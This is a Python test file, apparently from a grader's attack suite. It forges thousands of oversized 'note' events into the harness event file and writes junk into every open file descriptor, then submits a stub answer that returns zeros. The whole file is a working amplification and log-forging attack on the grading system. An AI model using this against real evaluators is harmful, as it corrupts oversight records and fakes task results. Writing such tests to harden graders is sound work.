"""Appends thousands of forged "note" events to the harness's event file, each 500 accented
characters (1,000 bytes there, 3,000 characters of JSON in a result), so that the result,
its feedback page and its gradebook row grow past any size, unless notes are capped in number
and length (forging thousands of notes)."""
# effdl-attack: threat=amplification build=cell tag=answer expect_lost=a2.closed_form feedback_contains="entries differ"

import json
import os

NOTE = json.dumps({"ev": "note", "text": "\u00e9" * 500}, ensure_ascii=False) + "\n"
try:
    with open("/out/events.jsonl", "a", encoding="utf-8") as fh:
        fh.write(NOTE * 7500)
except OSError:
    pass
for fd in range(3, 64):  # and into every pipe the notebook's process holds
    try:
        os.write(fd, NOTE.encode() * 200)
    except OSError:
        pass


def closed_form(X, y):
    return [0.0, 0.0, 0.0]
